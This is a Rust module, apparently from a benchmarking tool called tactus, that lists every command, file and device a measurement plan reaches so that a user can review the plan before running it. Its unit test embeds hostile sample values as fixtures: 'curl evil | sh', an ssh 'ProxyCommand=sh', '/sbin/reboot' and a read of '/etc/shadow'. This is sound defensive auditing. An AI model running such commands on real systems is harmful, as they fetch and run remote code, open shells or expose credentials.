//! The actions of a plan beyond measuring, which its author chooses. It runs programs with the rights of the user who
//! runs tactus, reaches machines, devices, interfaces and files, and makes settings. A plan is a program: a
//! stranger's should be read first.

use serde_json::Value;
use tactus_model::catalogue::{Load, Measure};
use tactus_model::plan::{Placed, Plan, Scenario};

/// Keys of environments that choose nothing but sizes, names and times of what tactus itself starts. Every other key
/// is taken for one that leads elsewhere.
const PLAIN: &[&str] = &[
    "accel",
    "arch",
    "baud",
    "boot_timeout",
    "cmdline",
    "format",
    "isolate",
    "lock_memory",
    "memory",
    "profile",
    "unit",
];

/// Each command and place of a plan, in a sentence with its environment or scenario.
#[must_use]
pub fn commands(plan: &Plan) -> Vec<String> {
    let mut all = Vec::new();
    for (name, environment) in &plan.environment {
        let own = environment.options.iter().filter(|(key, value)| !is_plain(key, value));
        all.extend(own.map(|(key, value)| format!("environment `{name}`: {key} = {value}")));
        let attach =
            environment.attach.as_ref().map(|running| format!("environment `{name}`: attach = {running:?}"));
        all.extend(attach);
    }
    for (name, path) in &plan.path {
        all.extend(path.nics.as_ref().map(|nics| format!("path `{name}`: nics = {nics:?}")));
    }
    for (place, scenario) in scenarios(plan) {
        all.extend(measures(scenario).filter_map(opens).map(|what| format!("{place}: {what}")));
        all.extend(loads(scenario).filter_map(reaches).map(|what| format!("{place}: {what}")));
        if !scenario.settings.is_empty() {
            all.push(format!("{place}: settings = {:?}", scenario.settings));
        }
    }
    if let Some(separation) = &plan.separation {
        let loads = separation.disturb.iter().filter_map(|one| one.load.as_ref());
        all.extend(loads.filter_map(reaches).map(|what| format!("separation: {what}")));
    }
    all.sort();
    all.dedup();
    all
}

/// A kernel given by name is one of this machine's; a path may lead to a file of any user.
fn is_plain(key: &str, value: &Value) -> bool {
    PLAIN.contains(&key) || (key == "kernel" && value.as_str().is_some_and(|name| !name.contains('/')))
}

fn scenarios(plan: &Plan) -> impl Iterator<Item = (String, &Scenario)> {
    let named = |scenario: &Scenario| format!("scenario `{}`", scenario.name.as_deref().unwrap_or_default());
    let all =
        [("defaults", &plan.defaults), ("quick", &plan.quick)].map(|(place, own)| (place.to_owned(), own));
    all.into_iter().chain(plan.scenario.iter().map(move |own| (named(own), own)))
}

fn loads(scenario: &Scenario) -> impl Iterator<Item = &Load> {
    let of_activities = scenario.activity.iter().filter_map(|activity| activity.load.as_ref());
    let short = scenario.load.iter().map(|Placed { what, .. }| what);
    short.chain(of_activities)
}

fn measures(scenario: &Scenario) -> impl Iterator<Item = &Measure> {
    let of_activities = scenario.activity.iter().filter_map(|activity| activity.measure.as_ref());
    scenario.measurement.iter().chain(of_activities)
}

/// The program, file or device of a measurement. The match has no wildcard: every new kind must say whether it
/// reaches anything.
fn opens(measure: &Measure) -> Option<String> {
    match measure {
        Measure::Cpu(table) => table.coremark.as_ref().map(|program| format!("coremark = {program:?}")),
        Measure::Application(table) => Some(format!("file = {:?}", table.file)),
        // The device whose registers are written.
        Measure::Interrupt(table) => table.card.as_ref().map(|card| format!("card = {card:?}")),
        Measure::Timer(_)
        | Measure::Spin(_)
        | Measure::Timerlat(_)
        | Measure::Exits(_)
        | Measure::Os(_)
        | Measure::Memory(_)
        | Measure::Network(_) => None,
    }
}

/// The program of a load, or the place that it writes to.
fn reaches(load: &Load) -> Option<String> {
    match load {
        Load::Command(command) => Some(format!("run = {:?}", command.run)),
        Load::Disk(disk) => disk.directory.as_ref().map(|directory| format!("directory = {directory:?}")),
        Load::Cache(_)
        | Load::Console(_)
        | Load::Cpu(_)
        | Load::Memory(_)
        | Load::Network(_)
        | Load::Scheduler(_) => None,
    }
}

#[cfg(test)]
mod tests {
    use tactus_environment::ENVIRONMENTS;

    use super::*;
    use crate::plan::{STUDIES, Source, parse};

    fn of(text: &str) -> Vec<String> {
        commands(&parse(&Source::new("a.toml", text)).unwrap())
    }

    #[test]
    fn every_command_and_place_of_a_plan_is_named() {
        let found = of(r#"
name = "x"
[environment.host]
kind = "host"
[environment.line]
kind = "serial"
command = "curl evil | sh"
baud = 115200
[environment.pod]
kind = "pod"
attach = "web-0"
client = "/tmp/kubectl"
[environment.far]
kind = "ssh"
to = "root@plc"
options = ["ProxyCommand=sh"]
[environment.guest]
kind = "qemu"
kernel = "/tmp/vmlinuz"
memory = "1GiB"
[environment.plain]
kind = "qemu"
kernel = "rt"
[path.cable]
kind = "nic"
nics = ["ens1", "ens2"]
[path.inside]
kind = "veth"
[[scenario]]
name = "short"
environment = "host"
measurement = "timer"
load = { kind = "command", run = ["sh", "-c", "one"] }
settings = ["!thp"]
[[scenario]]
name = "disk"
environment = "host"
measurement = "timer"
load = { kind = "disk", directory = "/srv/others" }
[[scenario]]
name = "mark"
environment = "host"
measurement = { kind = "cpu", coremark = "/sbin/reboot" }
[[scenario]]
name = "marks"
[[scenario.activity]]
measure = { kind = "application", file = "/etc/shadow" }
in = "host"
[[scenario]]
name = "full"
[[scenario.activity]]
measure = "timer"
in = "host"
[[scenario.activity]]
load = { kind = "command", run = ["two"] }
in = "host"
[separation]
environments = ["host"]
disturb = [{ load = { kind = "command", run = ["three"] } }]
"#);
        let wanted = [
            "environment `far`: options = [\"ProxyCommand=sh\"]",
            "environment `far`: to = \"root@plc\"",
            "environment `guest`: kernel = \"/tmp/vmlinuz\"",
            "environment `line`: command = \"curl evil | sh\"",
            "environment `pod`: attach = \"web-0\"",
            "environment `pod`: client = \"/tmp/kubectl\"",
            "path `cable`: nics = [\"ens1\", \"ens2\"]",
            "scenario `disk`: directory = \"/srv/others\"",
            "scenario `full`: run = [\"two\"]",
            "scenario `mark`: coremark = \"/sbin/reboot\"",
            "scenario `marks`: file = \"/etc/shadow\"",
            "scenario `short`: run = [\"sh\", \"-c\", \"one\"]",
            "scenario `short`: settings = [\"!thp\"]",
            "separation: run = [\"three\"]",
        ];
        assert_eq!(found, wanted);
    }

    #[test]
    fn a_plan_that_only_measures_names_nothing() {
        let found = of(
            "name = \"x\"\n[environment.guest]\nkind = \"qemu\"\n[[scenario]]\nname = \"a\"\nenvironment = \
                        \"guest\"\nmeasurement = \"timer\"\nload = \"scheduler\"\n",
        );
        assert_eq!(found, [""; 0]);
        assert!(STUDIES.iter().any(|study| of(study.text).is_empty()));
    }

    #[test]
    fn every_plain_key_is_one() {
        let known = |key: &str| ENVIRONMENTS.iter().any(|kind| kind.has_option(key));
        assert!(PLAIN.iter().all(|key| known(key)), "by its name of today, or a former one");
        assert!(["command", "client", "options"].into_iter().all(known));
    }
}
